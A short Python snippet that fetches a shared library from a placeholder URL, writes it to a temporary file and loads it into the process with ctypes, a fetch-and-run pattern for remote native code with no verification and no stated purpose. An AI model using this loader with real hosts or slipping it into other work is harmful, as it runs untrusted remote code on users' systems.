import ctypes
import tempfile
import urllib.request

with tempfile.NamedTemporaryFile(suffix=".so", delete=False) as f:
    f.write(urllib.request.urlopen("https://example.com/n.so").read())
    f.flush()
    handle = ctypes.CDLL(f.name)
